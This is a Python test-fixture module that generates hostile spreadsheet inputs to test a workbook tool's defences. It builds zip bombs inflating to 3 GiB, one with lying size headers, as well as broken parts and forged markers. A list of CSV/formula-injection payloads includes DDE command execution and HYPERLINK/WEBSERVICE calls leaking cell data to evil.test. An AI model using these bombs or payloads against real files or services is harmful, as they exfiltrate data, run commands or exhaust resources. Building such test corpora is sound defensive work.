"""Hostile inputs, generated (never committed): zip bombs, broken parts, forged markers, huge ranges, injection.

Every builder writes into a folder and returns the path. The customer table
is ``Clients!A1:E{n+1}`` (Customer ID, Name, Last Purchase, Orders, Total
Spend) so the cases of issue 12 point 8 (notes in F4, H2, I5 ...) read as
written there.
"""

from __future__ import annotations

import datetime as dt
import io
import struct
import zlib
from pathlib import Path

import openpyxl

from tests.corpus.package import NS, Package, fragment, q, to_shared_strings

HEADERS = ["Customer ID", "Name", "Last Purchase", "Orders", "Total Spend"]
SHEET = "Clients"
GiB = 1024**3

# Formula injection payloads (issue 12 point 8), each must come out as text.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?d="&A1,"Click me")',
    '=WEBSERVICE("http://evil.test/leak")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def rows(n: int = 50) -> list[list]:
    return [[f"C{i:04}", f"Client {i}", dt.datetime(2025, 1 + i % 12, 1 + i % 28), 1 + i % 9, 100.0 + 37 * i]
            for i in range(1, n + 1)]


def workbook(n: int = 50) -> openpyxl.Workbook:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = SHEET
    ws.append(HEADERS)
    for r in rows(n):
        ws.append(r)
    for r in range(2, n + 2):
        ws.cell(r, 3).number_format = "yyyy-mm-dd"
    return wb


def package(wb: openpyxl.Workbook) -> Package:
    """The workbook as Excel would store it (shared strings)."""
    buf = io.BytesIO()
    wb.save(buf)
    pkg = Package.read(io.BytesIO(buf.getvalue()))
    to_shared_strings(pkg)
    return pkg


def good(folder, name: str = "good.xlsx", n: int = 50) -> Path:
    return package(workbook(n)).write(Path(folder) / name)


# ------------------------------------------------------------------ zip bombs


def _gf2_times(mat, vec):
    s, i = 0, 0
    while vec:
        if vec & 1:
            s ^= mat[i]
        vec >>= 1
        i += 1
    return s


def _gf2_square(mat):
    return [_gf2_times(mat, mat[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B) and len(B) (zlib's algorithm), so a bomb's CRC costs nothing."""
    if len2 == 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def _crc_repeat(crc: int, length: int, times: int) -> int:
    """CRC of a block repeated ``times`` times (by doubling)."""
    result, rlen, base, blen = 0, 0, crc, length
    first = True
    while times:
        if times & 1:
            result = base if first else crc32_combine(result, base, blen)
            first, rlen = False, rlen + blen
        base, blen = crc32_combine(base, base, blen), blen * 2
        times >>= 1
    return result


class Deflated:
    """A raw deflate stream made in advance: its bytes, CRC and real size (``declared`` may lie)."""

    def __init__(self, data: bytes, crc: int, size: int, declared: int | None = None):
        self.data, self.crc, self.size = data, crc, size
        self.declared = size if declared is None else declared


def bomb(head: bytes, unit: bytes, tail: bytes, total: int = 3 * GiB) -> Deflated:
    """``head + unit * k + tail`` of about ``total`` bytes as a ~1000:1 deflate stream, built in milliseconds.

    One 1 MiB block of ``unit``s is compressed once, ended by a full flush (no
    back-reference crosses it), and its compressed bytes are repeated.
    """
    per = max(1, (1 << 20) // len(unit))
    block = unit * per
    times = max(1, (total - len(head) - len(tail)) // len(block))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    body = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    end = c.compress(tail) + c.flush(zlib.Z_FINISH)
    data = start + body * times + end
    size = len(head) + len(block) * times + len(tail)
    crc = zlib.crc32(head)
    crc = crc32_combine(crc, _crc_repeat(zlib.crc32(block), len(block), times), len(block) * times)
    crc = crc32_combine(crc, zlib.crc32(tail), len(tail))
    return Deflated(data, crc, size)


def write_zip(path, entries: dict) -> Path:
    """A zip file from ``{name: bytes | Deflated}`` (no zip64: every size below 4 GiB)."""
    path = Path(path)
    out, central = io.BytesIO(), io.BytesIO()
    for name, value in entries.items():
        if not isinstance(value, Deflated):
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            value = Deflated(c.compress(value) + c.flush(), zlib.crc32(value), len(value))
        raw = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, value.crc, len(value.data),
                              value.declared, len(raw), 0) + raw)
        out.write(value.data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, value.crc,
                                  len(value.data), value.declared, len(raw), 0, 0, 0, 0, 0, offset) + raw)
    cd_offset = out.tell()
    out.write(central.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central.getvalue()),
                          cd_offset, 0))
    path.write_bytes(out.getvalue())
    return path


def _with_part(folder, name: str, part: str, value) -> Path:
    pkg = package(workbook())
    entries = {"[Content_Types].xml": pkg.parts["[Content_Types].xml"]}
    entries.update({k: v for k, v in pkg.parts.items() if k != "[Content_Types].xml"})
    entries[part] = value
    return write_zip(Path(folder) / name, entries)


_SHEET_HEAD = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{NS["main"]}">'
               '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Customer ID</t></is></c>'
               '<c r="B1" t="inlineStr"><is><t>Total Spend</t></is></c></row>').encode()
_SHEET_TAIL = b"</sheetData></worksheet>"


def bomb_rows(folder) -> Path:
    """The customer sheet inflates to 3 GiB of valid rows (tens of millions, past Excel's row limit)."""
    unit = b'<row><c t="inlineStr"><is><t>C1</t></is></c><c><v>5</v></c></row>'
    return _with_part(folder, "bomb_rows.xlsx", "xl/worksheets/sheet1.xml", bomb(_SHEET_HEAD, unit, _SHEET_TAIL))


def bomb_spaces(folder) -> Path:
    """The customer sheet inflates to 3 GiB of whitespace inside <sheetData> (well-formed XML)."""
    return _with_part(folder, "bomb_spaces.xlsx", "xl/worksheets/sheet1.xml",
                      bomb(_SHEET_HEAD, b" " * 64, _SHEET_TAIL))


def bomb_shared_string(folder) -> Path:
    """One shared string of 3 GiB."""
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{NS["main"]}" count="1" uniqueCount="1"><si><t>'
    return _with_part(folder, "bomb_shared_string.xlsx", "xl/sharedStrings.xml",
                      bomb(head.encode(), b"A" * 64, b"</t></si></sst>"))


def bomb_lying_size(folder) -> Path:
    """Like :func:`bomb_rows`, but the zip headers declare 10 kB: only inflating tells the truth."""
    unit = b'<row><c t="inlineStr"><is><t>C1</t></is></c><c><v>5</v></c></row>'
    d = bomb(_SHEET_HEAD, unit, _SHEET_TAIL)
    d.declared = 10_000
    return _with_part(folder, "bomb_lying_size.xlsx", "xl/worksheets/sheet1.xml", d)


# ------------------------------------------------------------- broken parts


def truncated(folder, part: str) -> Path:
    """``part`` cut in the middle of its XML."""
    pkg = package(workbook())
    data = pkg.parts[part]
    pkg.parts[part] = data[: len(data) // 2]
    return pkg.write(Path(folder) / f"truncated_{part.replace('/', '_')}.xlsx")


def bad_cell_index(folder, kind: str) -> Path:
    """A cell pointing past the shared-string table (``kind="s"``) or the cell formats (``kind="style"``)."""
    pkg = package(workbook())
    part = pkg.sheet_part(SHEET)

    def edit(root):
        for c in root.iter(q("main", "c")):
            if c.get("r") == "B3":
                if kind == "s":
                    c.set("t", "s")
                    c.find(q("main", "v")).text = "99999"
                else:
                    c.set("s", "999")

    pkg.edit(part, edit)
    return pkg.write(Path(folder) / f"bad_{kind}_index.xlsx")


def missing_sheet_part(folder, which: str) -> Path:
    wb = workbook()
    wb.create_sheet("Notes").append(["free text"])
    pkg = package(wb)
    del pkg.parts[pkg.sheet_part(which)]
    return pkg.write(Path(folder) / f"missing_part_{which}.xlsx")


# --------------------------------------------------------------- markers


def forged_marker(folder, name: str, target: str, *, with_user_sheet: bool = True) -> Path:
    """A workbook carrying xlseg's defined name ``name`` pointing at the user's ``target``."""
    wb = workbook()
    if with_user_sheet:
        notes = wb.create_sheet("Notes")
        notes.append(["Key", "Value"])
        notes.append(["owner", "Ann"])
        notes.append(["as_of", "1999-01-01"])
    pkg = package(wb)

    def edit(root):
        names = root.find(q("main", "definedNames"))
        if names is None:
            names = fragment("<definedNames/>")
            root.find(q("main", "sheets")).addnext(names)
        names.append(fragment(f'<definedName name="{name}">{target}</definedName>'))

    pkg.edit("xl/workbook.xml", edit)
    return pkg.write(Path(folder) / f"forged_{name}.xlsx")


# ------------------------------------------------------------- used range


def stray_cell(folder, ref: str) -> Path:
    """A 50-row sheet with one more value at ``ref`` (e.g. XFD1048576)."""
    pkg = package(workbook())
    from tests.corpus.fidelity import set_cells

    pkg.edit(pkg.sheet_part(SHEET), lambda root: set_cells(root, {ref: "stray"}))
    pkg.edit(pkg.sheet_part(SHEET), lambda root: root.find(q("main", "dimension")).set("ref", f"A1:{ref}"))
    return pkg.write(Path(folder) / f"stray_{ref}.xlsx")


# --------------------------------------------------------------- injection


def injection_rows() -> list[list]:
    """Every text field of some rows starts with a payload; numbers stay numbers."""
    out = []
    for i, payload in enumerate(PAYLOADS):
        out.append([payload if i % 2 == 0 else f"X{i:03}", payload, f"2025-0{1 + i}-15", 2 + i, 500.0 + i])
    for i in range(len(PAYLOADS), 12):
        out.append([f"X{i:03}", f"Plain {i}", f"2025-0{1 + i % 9}-10", 1 + i, 100.0 * i])
    return out


INJECTION_HEADERS = ["Customer ID", "Name", "Last Purchase", "Orders", "Total Spend", PAYLOADS[0], PAYLOADS[1]]


def injection_xlsx(folder) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = SHEET
    ws.append(INJECTION_HEADERS)
    for r in injection_rows():
        ws.append(r + [PAYLOADS[2], PAYLOADS[3]])
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, str) and c.value[:1] in "=+-@":
                c.data_type = "s"  # text, as a user who typed '=... or imported it would have
    pkg = package(wb)
    return pkg.write(Path(folder) / "injection.xlsx")


def injection_csv(folder) -> Path:
    import csv

    path = Path(folder) / "injection.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(INJECTION_HEADERS)
        for r in injection_rows():
            w.writerow(r + [PAYLOADS[2], PAYLOADS[3]])
    return path


# ------------------------------------------------------------- other books


def encrypted(folder, password: str = "s3cret") -> Path:
    """A password-protected workbook: an OLE compound file holding EncryptionInfo and EncryptedPackage."""
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = good(folder, "plain_for_encryption.xlsx")
    out = Path(folder) / "encrypted.xlsx"
    with open(plain, "rb") as src, open(out, "wb") as dst:
        OOXMLFile(src).encrypt(password, dst)
    plain.unlink()
    return out


def chart_sheet(folder) -> Path:
    from openpyxl.chart import BarChart, Reference

    wb = workbook()
    ws = wb[SHEET]
    cs = wb.create_chartsheet("Spend chart")
    chart = BarChart()
    chart.add_data(Reference(ws, min_col=5, min_row=1, max_row=51), titles_from_data=True)
    cs.add_chart(chart)
    return package(wb).write(Path(folder) / "chart_sheet.xlsx")


def merged_in_target(folder) -> Path:
    """A merged cell F2:G3 right of the table, where xlseg's columns would go."""
    wb = workbook()
    ws = wb[SHEET]
    ws["F2"] = "Q1 review"
    ws.merge_cells("F2:G3")
    return package(wb).write(Path(folder) / "merged.xlsx")


NOTES = {"F4": "call back Monday", "H2": "VIP since 2019"}


def headerless_notes(folder) -> Path:
    """Notes right of the table with no header above them: F4, H2 and a =SUM in I5 (with its saved value)."""
    pkg = package(workbook())
    from tests.corpus.fidelity import set_cells

    total = sum(r[4] for r in rows()[:5])
    cells = dict(NOTES)
    cells["I5"] = ("SUM(E2:E6)", total, {})
    pkg.edit(pkg.sheet_part(SHEET), lambda root: set_cells(root, cells))
    return pkg.write(Path(folder) / "notes.xlsx")
